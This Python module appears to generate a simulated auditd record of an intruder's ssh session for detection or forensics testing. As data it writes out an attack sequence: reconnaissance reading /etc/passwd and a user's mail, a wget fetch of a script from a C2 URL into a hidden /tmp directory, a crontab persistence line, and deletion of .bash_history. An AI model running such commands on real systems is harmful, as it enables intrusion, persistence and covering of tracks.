"""The intruder's session on the Linux host: from his login over ssh to its end, 25 seconds later."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

from .auditd_jobs import Command, shell
from .cast import (
    BASH_PID,
    C2,
    DOWNLOAD,
    LOGIN,
    SCRIPT,
    SCRIPT_URL,
    SECOND,
    SSH_SESSION,
    SSHD_PID,
    WGET_PID,
)

USER: Final = 1001
HOME: Final = "/home/dbadmin"
HIDDEN: Final = "/tmp/.cache"  # noqa: S108 a name inside the data


@dataclass(frozen=True, slots=True)
class Event:
    """A step of the session: a message of PAM, or the start of a process."""

    moment: int
    kind: str
    pid: int
    uid: int = 0
    auid: int = USER
    session: int = SSH_SESSION
    opened: bool = True
    parent: int = 0
    command: Command | None = None
    origin: str = C2


MOTD: Final = "/etc/update-motd.d"
GREETING: Final = (
    shell("/usr/bin/env -i PATH=/usr/sbin:/usr/bin run-parts --lsbsysinit /etc/update-motd.d > /run/motd.dynamic.new"),
    Command("/bin/run-parts", "run-parts --lsbsysinit /etc/update-motd.d"),
    *(
        Command("/bin/dash", f"/bin/sh {MOTD}/{name}")
        for name in (
            "00-header",
            "10-help-text",
            "50-landscape-sysinfo",
            "50-motd-news",
            "80-esm",
            "90-updates-available",
        )
    ),
    Command("/bin/uname", "uname -o"),
    Command("/bin/uname", "uname -r"),
    Command("/bin/uname", "uname -m"),
    Command("/usr/bin/bc", "bc"),
    Command("/usr/bin/who", "who -q"),
    Command("/usr/bin/landscape-sysinfo", "/usr/bin/python3 /usr/bin/landscape-sysinfo"),
    Command("/bin/cat", "cat /var/cache/motd-news"),
    Command("/usr/lib/update-notifier/update-motd-updates-available", "/bin/sh update-motd-updates-available"),
    Command("/usr/bin/expr", "expr 1550503700 + 86400"),
    Command("/bin/mv", "mv /run/motd.dynamic.new /run/motd.dynamic"),
)
"""What a login runs by itself, as root: the greeting."""

PROFILE: Final = (
    Command("/bin/bash", "-bash", USER, HOME),
    Command("/usr/bin/locale-check", "locale-check C.UTF-8", USER, HOME),
    Command("/usr/bin/lesspipe", "/bin/sh /usr/bin/lesspipe", USER, HOME),
    Command("/usr/bin/basename", "basename /usr/bin/lesspipe", USER, HOME),
    Command("/usr/bin/dircolors", "dircolors -b", USER, HOME),
    Command("/usr/bin/mesg", "mesg n", USER, HOME),
    Command("/bin/bash", "bash", USER, HOME),
)
RECONNAISSANCE: Final = (
    Command("/bin/uname", "uname -a", USER, HOME),
    Command("/usr/bin/id", "id", USER, HOME),
    Command("/usr/bin/whoami", "whoami", USER, HOME),
    Command("/bin/hostname", "hostname", USER, HOME),
    Command("/bin/cat", "cat /etc/issue", USER, HOME),
    Command("/bin/cat", "cat /etc/passwd", USER, HOME),
    Command("/bin/cat", "cat /proc/cpuinfo", USER, HOME),
    Command("/bin/df", "df -h", USER, HOME),
    Command("/usr/bin/w.procps", "w", USER, HOME),
    Command("/usr/bin/last", "last -n 20", USER, HOME),
    Command("/bin/ps", "ps aux", USER, HOME),
    Command("/bin/netstat", "netstat -antp", USER, HOME),
    Command("/sbin/ifconfig", "/sbin/ifconfig -a", USER, HOME),
    Command("/usr/bin/bsd-mailx", "mail -H", USER, HOME),
    Command("/bin/cat", "cat /var/mail/dbadmin", USER, HOME),
    Command("/bin/ls", "ls -la /home", USER, HOME),
    Command("/bin/ping", f"ping -c 1 -W 1 {C2}", USER, HOME),
    Command("/bin/mkdir", f"mkdir -p {HIDDEN}", USER, HOME),
)
WGET: Final = Command("/usr/bin/wget", f"wget {SCRIPT_URL} -t 3 -T 5", USER, HIDDEN)
INSTALL_LINE: Final = f"(crontab -l 2>/dev/null; echo '*/5 * * * * {HIDDEN}/{SCRIPT}') | crontab -"
INSTALLATION: Final = (
    Command("/bin/chmod", f"chmod +x {SCRIPT}", USER, HIDDEN),
    shell(INSTALL_LINE, USER, HIDDEN),
    Command("/usr/bin/crontab", "crontab -l", USER, HIDDEN),
    Command("/usr/bin/crontab", "crontab -", USER, HIDDEN),
    Command("/bin/bash", f"/bin/bash ./{SCRIPT}", USER, HIDDEN),
    Command("/bin/rm", "rm -f .bash_history", USER, HOME),
)
INTERACTIVE: Final = (*GREETING, *PROFILE, *RECONNAISSANCE, WGET, *INSTALLATION)
"""Every process start of the session, in order."""


def session_events() -> list[Event]:
    """The session's events, in order."""
    opening = [
        Event(LOGIN - 9000, "USER_ACCT", SSHD_PID, opened=False),
        Event(LOGIN - 3000, "CRED_ACQ", SSHD_PID, opened=False),
        Event(LOGIN, "LOGIN", SSHD_PID),
        Event(LOGIN + 52_000, "USER_START", SSHD_PID),
    ]
    first = LOGIN + 60_000
    before = (*GREETING, *PROFILE, *RECONNAISSANCE)
    step = (DOWNLOAD - first) // (len(before) + 1) // 1000 * 1000
    starts = [_start(first + n * step, SSHD_PID + 4 + 2 * n, command) for n, command in enumerate(before)]
    download = Event(DOWNLOAD, "", WGET_PID, USER, parent=BASH_PID, command=WGET)
    installed = DOWNLOAD + 17 * SECOND
    rest = [_start(installed + n * 310_000, WGET_PID + 5 + 2 * n, command) for n, command in enumerate(INSTALLATION)]
    closing = [
        Event(LOGIN + 25 * SECOND, "USER_END", SSHD_PID),
        Event(LOGIN + 25 * SECOND + 4000, "CRED_DISP", SSHD_PID),
    ]
    return [*opening, *starts, download, *rest, *closing]


def _start(moment: int, pid: int, command: Command) -> Event:
    parent = BASH_PID if command.uid == USER else SSHD_PID
    return Event(moment, "", pid, command.uid, parent=parent, command=command)
